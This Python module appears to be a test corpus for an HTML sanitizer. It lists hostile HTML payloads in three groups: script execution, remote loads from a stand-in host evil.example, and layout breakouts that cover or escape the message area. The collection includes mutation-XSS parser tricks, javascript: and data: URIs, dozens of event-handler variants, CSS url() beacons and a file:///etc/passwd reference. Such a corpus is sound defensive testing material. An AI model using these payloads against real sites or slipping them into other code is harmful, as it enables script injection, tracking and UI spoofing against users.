"""HTML that tries to run a script, to load something, or to leave the place of its message.

A script that runs sets `top.ran`; what loads comes from EVIL or from the page's own host.
"""

from collections.abc import Mapping, Sequence

EVIL = "http://evil.example"
_RUN = "top.ran=1"
_LOAD = f"{EVIL}/x"
_PIXEL = "data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA="
_SVG = "data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0idG9wLnJhbj0xIi8+"
_COVER = "COVER<br>" * 30
_WIDE = "W" * 400

# A tag up to the name of its handler; a line each.
_HANDLERS = """
img src=x onerror
img src=x:x onerror
body onload
svg onload
svg/onload
input autofocus onfocus
select autofocus onfocus
textarea autofocus onfocus
keygen autofocus onfocus
video src=x onerror
audio src=x onerror
marquee onstart
details open ontoggle
iframe onload
object data=x onerror
embed src=x onload
link rel=stylesheet href=x onerror
script src=x onerror
style onload
meter onmouseover
div onmouseover
p onpointerenter
a href=# onmouseover
table onmouseover
td onmouseenter
div style='animation:a 1s' onanimationstart
div style='transition:all 1s' ontransitionrun
div contenteditable autofocus onfocus
div tabindex=0 autofocus onfocus
image src=x onerror
isindex onfocus
form onformdata
frameset onload
dialog open onclose
div popover onbeforetoggle
x onscrollsnapchange
img/src=x/onerror
img src=`x` onerror
IMG SRC=x OnErRoR
""".strip().splitlines()
_STYLES_THAT_LOAD = """
background:url(LOAD)
background-image:url('LOAD')
background:u\\72l(LOAD)
background:red url(LOAD) no-repeat
background:url(/own)
background:/**/url(LOAD)
background-image:image-set('LOAD' 1x)
background-image:-webkit-image-set(url(LOAD) 1x)
background-image:-webkit-cross-fade(url(LOAD),red,50%)
background-image:src('LOAD')
background-image:linear-gradient(red,blue),url(LOAD)
--x:url(LOAD);background:var(--x)
list-style:url(LOAD)
list-style-image:url(LOAD);display:list-item
content:url(LOAD)
border-image:url(LOAD) 30 round;border:9px solid
border-image-source:url(LOAD);border:9px solid
cursor:url(LOAD),auto
mask:url(LOAD)
-webkit-mask-image:url(LOAD)
clip-path:url(LOAD#x)
filter:url(LOAD#x)
backdrop-filter:url(LOAD#x)
shape-outside:url(LOAD);float:left
font:12px x;src:url(LOAD)
-webkit-box-reflect:below 0 url(LOAD)
offset-path:url(LOAD#x)
width:1px;background:url(LOAD
color:red;;background:url("LOAD")
BACKGROUND:URL( LOAD )
""".strip().splitlines()
_STYLES_THAT_LEAVE = """
position:fixed;inset:0
position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999
position:absolute;top:-300px;left:-300px
position:relative;top:-300px
position:sticky;top:0;left:-300px
pos\\69tion:fixed;top:0;left:0
position/**/:/**/fixed;top:0;left:0
position:fixed!important;top:0;left:0
margin-top:-300px
margin-left:-300px
margin:-300px
margin:0 0 0 -300px
margin:0-300px
margin:1-300px
margin:1px-300px
margin:0 0 -300px -300px
margin-top:- 300px
margin-left:-3e2px
margin-left:-.3e3px
margin:-300px!important
margin-inline-start:-300px
margin-block:-300px
margin-top:-100%
margin-left:-50vw
margin-left:-20em
-webkit-margin-start:-300px
margin-top:\\2d 300px
margin-left:calc(0px - 300px)
margin-left:min(-300px,1px)
margin-left:max(-300px,-400px)
margin-left:clamp(-300px,-300px,0px)
margin-left:round(-300px,1px)
margin-left:mod(-300px,301px)
margin-left:rem(-300px,301px)
margin-left:calc(-1*abs(300px))
margin-left:calc(300px*sign(-1))
margin-left:calc(300px*sin(-90deg))
margin-left:hypot(300px)
margin-left:calc(300px*pow(-1,1))
--a:-300px;margin-left:var(--a)
margin-left:env(x,-300px)
margin-left:attr(title,-300px)
margin-left:calc-size(auto,-300px)
margin-left:-webkit-calc(0px - 300px)
margin-left:anchor(left,-300px)
text-indent:-300px
text-indent:-999em hanging
letter-spacing:-20px
word-spacing:-300px
letter-spacing:-1px;font-size:0
vertical-align:-300px
vertical-align:300px;line-height:0
vertical-align:-500%
vertical-align:2000px
line-height:0;font-size:190px
line-height:-1;font-size:99px
line-height:1px;font-size:190px
line-height:.01;font-size:20em
font:190px/0 serif
font:190px/1px serif
line-height:0%;font-size:150px
line-height:5000px
line-height:calc(0px);font-size:150px
transform:translate(-300px,-300px)
transform:scale(9)
transform:rotate(45deg) scale(5)
translate:-300px
scale:9
rotate:45deg;width:2000px
zoom:9
-webkit-transform:translateY(-300px)
offset-path:ray(0deg)
perspective:1px;transform:translateZ(.9px)
offset:path('M-300-300')
translate:-300px -300px
float:right;width:5000px
float:right;width:1900px
float:left;width:5000px
float:right;min-width:5000px
float:right;margin-right:400px
float:left;height:1900px
float:right;padding-left:499px;width:1999px
float:right;width:300%
float:right;width:100vw
float:right;width:125em
width:5000px
min-width:5000px
width:100vw
width:max-content;white-space:nowrap
height:0
height:1px
max-height:0
max-height:1px
height:1px;min-height:0
height:0;overflow:visible
height:1px;display:inline-block
padding:0 499px
padding:5000px
border:5000px solid red
border:99px solid red;margin:400px
outline:300px solid red
outline:9px solid red;outline-offset:300px
box-shadow:0 0 0 300px red
text-shadow:-300px -300px red
filter:drop-shadow(-300px -300px red)
-webkit-box-reflect:above
box-shadow:-300px -300px 0 red
direction:rtl;width:1900px
direction:rtl;white-space:nowrap
writing-mode:vertical-rl;height:1900px
direction:rtl;text-indent:499px
unicode-bidi:bidi-override;direction:rtl;white-space:nowrap
writing-mode:sideways-lr
column-count:20;column-gap:300px
columns:1px
display:grid;grid-template:1fr/9999px
display:flex;flex-direction:row-reverse;width:1900px
display:grid;margin-left:-9999px
order:-1
text-decoration:underline 300px
text-decoration-thickness:300px;text-decoration-line:underline
text-decoration:underline;text-underline-offset:300px
text-emphasis:'X' red
clip:auto;inset:-300px
list-style:'MARKER MARKER MARKER MARKER';display:list-item
list-style-type:'MARKER MARKER';display:list-item
display:list-item;list-style:decimal;font-size:190px
quotes:'XXXX' 'YYYY'
initial-letter:9
all:initial;position:fixed;top:0
contain:none;position:fixed;top:0
content-visibility:visible
position-anchor:--x;position:fixed;inset:0
animation:x 1s
transition:all 1s
float:footnote
white-space:nowrap
word-break:keep-all;white-space:pre
overflow:visible;white-space:nowrap
font-size:5000px
font-size:199px
font-size:900%
font-size:calc(300px)
line-height:9.9;font-size:199px
border-spacing:-300px;display:table
border-collapse:collapse;margin:-300px
table-layout:fixed;width:1999px
display:table;width:1999px;margin-left:auto
display:table;width:1px;float:right
display:contents
display:inline;padding:400px 0;background:red
display:inline;border:99px solid red;line-height:1
display:inline;margin-left:400px;font-size:190px
visibility:visible;opacity:1;position:fixed
""".strip().splitlines()

EXECUTES: Sequence[str] = [
    f"<script>{_RUN}</script>",
    f"<SCRIPT >{_RUN}</SCRIPT\n>",
    f"<script/x>{_RUN}</script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<script src='data:text/javascript,{_RUN}'></script>",
    f"<script src='{_LOAD}.js'></script>",
    f"<<script>{_RUN}//<</script>",
    f"<script type=module>{_RUN}</script>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><script href='data:text/javascript,{_RUN}'/></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><set onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><style><img src=x onerror={_RUN}></style></svg>",
    f"<svg></p><style><a id='</style><img src=x onerror={_RUN}>'>",
    f"<svg><foreignObject><img src=x onerror={_RUN}></foreignObject></svg>",
    f"<svg><title><style><img src=x onerror={_RUN}></style></title></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}></style></mglyph></table></mtext></math>",
    f"<math><mi><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={_RUN}&gt;'>",
    f"<math><annotation-xml encoding='text/html'><img src=x onerror={_RUN}></annotation-xml></math>",
    f"<math href='javascript:{_RUN}'>x</math>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={_RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'></noscript>",
    f"<noembed><p title='</noembed><img src=x onerror={_RUN}>'></noembed>",
    f"<noframes><p title='</noframes><img src=x onerror={_RUN}>'></noframes>",
    f"<xmp><p title='</xmp><img src=x onerror={_RUN}>'></xmp>",
    f"<title><p title='</title><img src=x onerror={_RUN}>'></title>",
    f"<textarea><p title='</textarea><img src=x onerror={_RUN}>'></textarea>",
    f"<style><p title='</style><img src=x onerror={_RUN}>'></style>",
    f"<template><script>{_RUN}</script></template>",
    f"<template shadowrootmode=open><img src=x onerror={_RUN}></template>",
    f"<select><template><img src=x onerror={_RUN}></template></select>",
    f"<select><style><img src=x onerror={_RUN}></style></select>",
    f"<table><td><style></table><img src=x onerror={_RUN}></style>",
    f"<!--><img src=x onerror={_RUN}>-->",
    f"<!--!><img src=x onerror={_RUN}>--!>",
    f"<!--[if mso]><script>{_RUN}</script><![endif]-->",
    f"<![CDATA[><img src=x onerror={_RUN}>]]>",
    f"<?xml version=1.0?><?x ><img src=x onerror={_RUN}>?>",
    f"<!DOCTYPE x [<!ENTITY a '<img src=x onerror={_RUN}>'>]>&a;",
    f"<plaintext><img src=x onerror={_RUN}>",
    f"<a href='javascript:{_RUN}' autofocus onfocus={_RUN}>x</a>",
    f"<iframe src='javascript:{_RUN}'></iframe>",
    f"<iframe srcdoc='<script>{_RUN}</script>'></iframe>",
    f"<iframe src='data:text/html,<script>{_RUN}</script>'></iframe>",
    f"<object data='javascript:{_RUN}'></object>",
    f"<object data='data:text/html,<script>{_RUN}</script>'></object>",
    f"<embed src='data:text/html,<script>{_RUN}</script>'>",
    f"<object data='{_SVG}' type='image/svg+xml'></object>",
    f"<embed src='{_SVG}'>",
    f"<img src='{_SVG}'>",
    f"<img src='javascript:{_RUN}'>",
    "<img src='x' onerror='&#116;op.ran=1'>",
    f"<img src='x' title='`onerror={_RUN} `'>",
    f"<img alt='`x` onerror={_RUN}' src=x>",
    f"<p title='\"><img src=x onerror={_RUN}>'>x</p>",
    f'<p title="x\n"onmouseover={_RUN}>x</p>',
    f"<font face='\"><img src=x onerror={_RUN}>'>x</font>",
    f"<div style=\"font-family:'}}</style><img src=x onerror={_RUN}>'\">x</div>",
    f'<div style="color:red" style="x:expression({_RUN})">x</div>',
    f"<div style='width:expression({_RUN})'>x</div>",
    f"<div style='-moz-binding:url(data:text/xml,{_RUN})'>x</div>",
    "<div style='behavior:url(x.htc)'>x</div>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_RUN}'>",
    f"<meta http-equiv=refresh content='0;url=data:text/html,<script>{_RUN}</script>'>",
    f"<base href='javascript:{_RUN}//'><a href=x autofocus>x</a>",
    f"<form action='javascript:{_RUN}'><input type=submit autofocus></form>",
    f"<form><button formaction='javascript:{_RUN}' autofocus>x</button></form>",
    f"<isindex type=image src=x onerror={_RUN}>",
    f"<input type=image src=x onerror={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<picture><source srcset=x onerror={_RUN}><img src=x onerror={_RUN}></picture>",
    f"<svg><use href='{_SVG}#x'/></svg>",
    f"<svg><a xlink:href='javascript:{_RUN}'><text y=20>x</text></a></svg>",
    f"<link rel=import href='data:text/html,<script>{_RUN}</script>'>",
    f"<xml id=x><a><![CDATA[<img src=x onerror={_RUN}>]]></a></xml>",
    *(f"<{handler}={_RUN}>x" for handler in _HANDLERS),
    "<img \x00src=x onerror=top.ran=1>x",
    "<img src=x\x0conerror=top.ran=1>x",
]

LOADS: Sequence[str] = [
    f"<img src={_LOAD}>",
    "<img src=//evil.example/x>",
    "<img src=\\\\evil.example\\x>",
    "<img src=/\\evil.example/x>",
    "<img src='ht\ntp://evil.example/x'>",
    f"<img src=' \x01{_LOAD}'>",
    "<img src=/own/picture.png>",
    "<img src=own.png>",
    "<img src='?own'>",
    "<img src=http:own>",
    "<img src=cid:unknown>",
    "<img src='cid:/own'>",
    "<img src='file:///etc/passwd'>",
    f"<img srcset='{_LOAD} 1x'>",
    f"<img src={_PIXEL} srcset='{_LOAD} 2x' sizes=1px>",
    f"<img lowsrc={_LOAD} dynsrc={_LOAD}>",
    f"<picture><source srcset={_LOAD}><img src={_PIXEL}></picture>",
    f"<image src={_LOAD}>",
    f"<input type=image src={_LOAD}>",
    f"<video src={_LOAD} poster={_LOAD} autoplay></video>",
    f"<video autoplay><source src={_LOAD}><track src={_LOAD} default></video>",
    f"<audio src={_LOAD} autoplay></audio>",
    f"<bgsound src={_LOAD}>",
    f"<iframe src={_LOAD}></iframe>",
    f"<frameset><frame src={_LOAD}></frameset>",
    f"<object data={_LOAD}></object>",
    f"<object><param name=movie value={_LOAD}></object>",
    f"<embed src={_LOAD}>",
    f"<applet code={_LOAD} archive={_LOAD}></applet>",
    f"<portal src={_LOAD}></portal>",
    f"<svg><image href={_LOAD} width=9 height=9 /></svg>",
    f"<svg><use href='{_LOAD}#x'/></svg>",
    f"<svg><filter id=f><feImage href={_LOAD} /></filter><rect filter='url(#f)' width=9 height=9 /></svg>",
    f"<svg><style>rect{{fill:url({_LOAD}#x)}}</style><rect width=9 height=9 /></svg>",
    f"<table background={_LOAD}><tr><td>x</table>",
    f"<table><tr><td background={_LOAD}>x</table>",
    f"<body background={_LOAD}>x",
    f"<body style='background:url({_LOAD})'>x",
    f"<p background={_LOAD} style='background:inherit'>x",
    *(
        f"<link rel={rel} href={_LOAD} as=image>"
        for rel in ("stylesheet", "icon", "prefetch", "preload", "modulepreload", "prerender", "preconnect", "manifest")
    ),
    "<link rel=dns-prefetch href=//evil.example>",
    f"<style>@import '{_LOAD}';</style>",
    f"<style>@font-face{{font-family:x;src:url({_LOAD})}}p{{font-family:x}}</style><p>x",
    f"<style>p{{background:url({_LOAD})}}</style><p>x",
    f"<style>*{{background:url({_LOAD})!important}}</style>",
    f"<meta http-equiv=refresh content='0;url={_LOAD}'>",
    "<meta http-equiv=refresh content='0;url=/own'>",
    f"<meta http-equiv=Link content='<{_LOAD}>;rel=stylesheet'>",
    f"<base href={EVIL}/><img src=x>",
    f"<a href={EVIL} ping={_LOAD} autofocus>x</a>",
    f"<script src={_LOAD}></script>",
    f"<xml src={_LOAD}></xml>",
    f"<html manifest={_LOAD}>",
    f"<form action={_LOAD}><input name=a autofocus></form>",
    f"<fencedframe src={_LOAD}></fencedframe>",
    f"<model src={_LOAD}></model>",
    *(f'<div style="{style.replace("LOAD", _LOAD)}">x</div>' for style in _STYLES_THAT_LOAD),
]

LEAVES: Sequence[str] = [
    *(f'<div style="{style}">{_COVER}</div>' for style in _STYLES_THAT_LEAVE),
    f"<img src={_PIXEL} style='position:fixed;top:0;left:0;width:100%;height:100%'>",
    f"<img src={_PIXEL} width=5000 height=5000 border=5000>",
    f"<img src={_PIXEL} width=1999 height=1999 align=right>",
    f"<img src={_PIXEL} hspace=-300 vspace=-300 width=300 height=300>",
    f"<img src={_PIXEL} align=left hspace=99 width=100%>",
    f"<table width=5000 align=right bgcolor=red><tr><td>{_COVER}</table>",
    f"<table width=1999 align=right bgcolor=red><tr><td>{_COVER}</table>",
    f"<table style='float:right;width:1999px' bgcolor=red><tr><td>{_COVER}</table>",
    f"<table cellspacing=-300 cellpadding=-300 border=-300><tr><td>{_COVER}</table>",
    f"<table dir=rtl width=1999 bgcolor=red><tr><td nowrap>{_WIDE}</table>",
    f"<table><tr><td colspan=999 rowspan=65534 height=1999>{_COVER}</table>",
    f"<table><col span=999 width=1999><tr><td>{_COVER}</table>",
    f"<div dir=rtl><pre>{_WIDE}</pre></div>",
    f"<bdo dir=rtl>{_WIDE}</bdo>",
    f"<p dir=rtl style='white-space:nowrap'>{_WIDE}</p>",
    f"<pre>{_WIDE}</pre>",
    f"<center><div style='width:1999px;background:red'>{_COVER}</div></center>",
    f"<div align=right><div style='width:1999px;background:red'>{_COVER}</div></div>",
    f"<td style='position:fixed'>{_COVER}",
    "<ol start=-999999 style='padding:0;font-size:190px'><li>x</ol>",
    "<ol start=999999999999 style='padding:0;margin:0'><li>x</ol>",
    "<ul style='padding:0;margin:0;font-size:190px'><li>x</ul>",
    "<li value=-99999 style='font-size:190px'>x",
    "<hr width=5000 size=5000 align=right>",
    "<hr style='width:1999px;margin-left:499px;height:1999px'>",
    "<big>" * 60 + "X",
    "<font size=+7>" * 9 + _COVER,
    "<sup style='font-size:190px'>" * 20 + "X",
    "<sub>" * 200 + "X",
    "<sup>" * 200 + "X",
    "<blockquote>" * 200 + "X",
    "<ul>" * 100 + "<li>X",
    "<div style='padding-left:400px'>" * 30 + "X",
    "<div style='float:right;width:1px;margin-right:400px'>" * 20 + "X",
    "<div style='float:right;margin-right:100%'>" * 20 + "X",
    "<div style='font-size:300%'>" * 20 + "X",
    "Z" + "\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u030a\u030b\u030c" * 100,
    "Z" + "\u0316\u0317\u0318\u0319\u031c\u031d\u031e\u031f\u0320\u0324\u0325\u0326" * 100,
    "\u202e" + _WIDE,
    "\ufdfd" * 400,
    "𒐫" * 200,
    f"<style>body{{display:none}}.above{{color:red}}*{{outline:9px solid}}</style>{_COVER}",
    "<style>@media all{.below{position:fixed}}</style>",
    f"<dialog open>{_COVER}</dialog>",
    f"<dialog open style='position:fixed;inset:0'>{_COVER}</dialog>",
    f"<div popover id=p>{_COVER}</div><button popovertarget=p autofocus>x</button>",
    f"<details open><summary style='position:fixed;top:0'>{_COVER}</summary></details>",
    f"<fieldset style='margin:-300px'><legend style='margin:-300px'>{_COVER}</legend></fieldset>",
    f"<marquee behavior=alternate width=5000 height=5000>{_COVER}</marquee>",
    "<iframe style='position:fixed;inset:0;width:100%;height:100%'></iframe>",
    "<svg style='position:fixed;inset:0;overflow:visible'><rect x=-300 y=-300 width=2000 height=2000 /></svg>",
    f"<math><mspace width=-300px /><mtext>{_COVER}</mtext></math>",
    f"<math style='position:fixed'><mpadded voffset=300px lspace=-300px>{_COVER}</mpadded></math>",
    "<canvas width=5000 height=5000 style='position:fixed'></canvas>",
    f"<textarea rows=999 cols=999 style='position:fixed;inset:0'>{_COVER}",
    f"<select size=99 style='position:fixed;inset:0'><option>{_COVER}</select>",
    "<input style='position:fixed;inset:0;width:100%;height:100%'>",
    f"<button style='position:fixed;inset:0'>{_COVER}</button>",
    f"<p class=above id=box>{_COVER}</p>",
    "<plaintext>swallow",
    "<xmp>swallow",
    "<textarea>swallow",
    "<title>swallow",
    "<script>swallow",
    "<style>swallow",
    "<!-- swallow",
    "<select><option>swallow",
    "<table><tr><td>swallow",
    "<svg><desc>swallow",
    "<a href=https://example.com style='display:block;position:fixed;inset:0'>swallow",
    "<b><i><u><font size=7 color=red>formatting that is left open",
    "</div></div></div></td></tr></table></body></html>out of the box",
    "</div><div style='position:fixed;inset:0;background:red'>out of the box",
    "</section></main></article><h1>out of the box",
    "</p></p><p style='margin:-300px'>out of the box",
    "<frameset rows=100%><frame>",
    "<body style='margin:-300px;position:fixed'>out of the box",
    "<html style='position:fixed'>out of the box",
    "<nobr>" + _WIDE,
    "<center style='position:fixed'>" + _COVER,
    "<div hidden style='display:block;position:fixed;inset:0'>" + _COVER,
    "<ruby style='font-size:190px'>x<rt style='font-size:190px'>" + _COVER,
    '<q style=\'quotes:"XXXX" "YYYY";font-size:190px\'>x</q>',
    "<a style='float:right;width:1999px;height:1999px;background:red' href=https://example.com>x</a>",
    "<span style='display:inline-block;width:1999px;height:1999px;background:red;vertical-align:100px'>x</span>",
]

ATTACKS: Mapping[str, Sequence[str]] = {"executes": EXECUTES, "loads": LOADS, "leaves": LEAVES}
"""By their aim; most are tried in more than one way."""
